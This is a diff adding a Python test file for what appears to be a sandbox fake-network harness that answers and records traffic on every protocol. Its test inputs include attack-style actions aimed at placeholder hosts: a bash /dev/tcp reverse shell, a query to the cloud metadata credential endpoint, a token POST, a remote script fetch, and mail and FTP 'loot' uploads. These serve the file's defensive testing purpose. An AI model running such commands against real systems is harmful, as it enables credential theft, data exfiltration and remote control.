@@ -1,0 +1,121 @@
+"""Every protocol, port and address answers, and what was said is recorded."""
+
+import json
+import socket
+import ssl
+
+from .conftest import Net
+
+
+def test_it_is_ready_in_a_moment(net: Net) -> None:
+    assert net.ready_s < 3  # 0.3 s on an idle machine; this one may be busy
+
+
+def test_https_on_any_port_has_a_certificate_made_on_the_spot(net: Net) -> None:
+    done = net.curl("https://files.example:8443/a.sh?x=1", "-d", "token=abc")
+    assert done.returncode == 0, done.stderr
+    said = net.heard(lambda s: s.port == 8443)
+    assert (said.protocol, said.name, said.summary, said.body) == (
+        "https",
+        "files.example",
+        "POST /a.sh?x=1",
+        b"token=abc",
+    )
+
+
+def test_plain_http_to_an_address_is_answered(net: Net) -> None:
+    done = net.curl("http://203.0.113.9/run.sh")
+    assert done.stdout.startswith("#!/bin/sh")
+    said = net.heard(lambda s: s.address == "203.0.113.9")
+    assert said.token
+    assert said.token[:8] in done.stdout
+
+
+def test_https_to_an_address_without_a_name(net: Net) -> None:
+    assert net.curl("https://198.51.100.7/").returncode == 0
+
+
+def test_the_metadata_service_hands_out_canaries(net: Net) -> None:
+    token = net.curl("http://169.254.169.254/latest/api/token", "-X", "PUT").stdout
+    assert token
+    done = net.curl("http://169.254.169.254/latest/meta-data/iam/security-credentials/app-worker-role")
+    secret = next(c.secret for c in net.spec.canaries if c.name == "metadata-secret")
+    assert json.loads(done.stdout)["SecretAccessKey"] == secret
+
+
+def test_any_tcp_port_takes_anything(net: Net) -> None:
+    got = net.tcp("203.0.113.50", 31337, b"\x00\x01hello", shut=False, wait=0.5)
+    said = net.heard(lambda s: s.port == 31337)
+    assert (said.protocol, said.address, said.request) == ("tcp", "203.0.113.50", b"\x00\x01hello")
+    assert said.response == got
+    assert said.token
+
+
+def test_ipv6_too(net: Net) -> None:
+    address = net.address("six.example", "AAAA")
+    net.tcp(address, 4242, b"over six")
+    said = net.heard(lambda s: s.port == 4242)
+    assert (said.address, said.name) == (address, "six.example")
+    assert net.dns(b"hello there", address, 9999)
+    assert net.heard(lambda s: s.port == 9999).request == b"hello there"
+
+
+def test_udp_on_any_port_knows_where_it_was_sent(net: Net) -> None:
+    net.dns(b"beacon", "203.0.113.77", 5005)
+    said = net.heard(lambda s: s.port == 5005)
+    assert (said.protocol, said.address, said.request) == ("udp", "203.0.113.77", b"beacon")
+
+
+def test_neighbours_in_the_subnet_answer(net: Net) -> None:
+    net.tcp("192.168.1.77", 445, b"smb?")
+    assert net.heard(lambda s: s.address == "192.168.1.77").port == 445
+
+
+def test_mail_is_taken(net: Net) -> None:
+    import smtplib
+
+    address = net.address("mail.example")
+
+    def send() -> None:
+        context = ssl.create_default_context(cafile=str(net.folder / "ca.pem"))
+        with smtplib.SMTP(address, 587, local_hostname="x", timeout=5) as client:
+            client._host = "mail.example"
+            client.starttls(context=context)
+            client.login("me", "secret")
+            client.sendmail("a@b.example", ["c@d.example"], "Subject: loot\r\n\r\nthe loot\r\n")
+
+    net.inside(send)
+    assert b"the loot" in net.heard(lambda s: s.port == 587 and b"loot" in s.request).request
+
+
+def test_files_are_taken_by_ftp(net: Net) -> None:
+    import ftplib
+    import io
+
+    def send() -> None:
+        with ftplib.FTP("203.0.113.21", "u", "p", timeout=5) as client:
+            client.storbinary("STOR loot.bin", io.BytesIO(b"loot " * 100))
+
+    net.inside(send)
+    assert b"STOR loot.bin" in net.heard(lambda s: s.port == 21).request
+    assert net.heard(lambda s: s.address == "203.0.113.21" and s.port == 50021).request == b"loot " * 100
+
+
+def test_the_clock_answers(net: Net) -> None:
+    answer = net.dns(b"\x1b" + bytes(47), "203.0.113.123", 123)
+    assert len(answer) == 48
+    assert answer[0] & 7 == 4
+
+
+def test_a_connection_that_says_nothing_is_tempted(net: Net) -> None:
+    def listen() -> bytes:
+        with socket.create_connection(("203.0.113.44", 4444), timeout=5) as client:
+            return client.recv(4096)
+
+    assert b"__import__" in net.inside(listen)
+
+
+def test_a_reverse_shell_runs_what_it_is_told_and_that_is_seen(net: Net) -> None:
+    net.run("bash", "-c", "exec 3<>/dev/tcp/203.0.113.66/4445; timeout 5 sh <&3 >&3 2>&1")
+    said = net.heard(lambda s: s.address == "203.0.113.66")
+    assert said.token
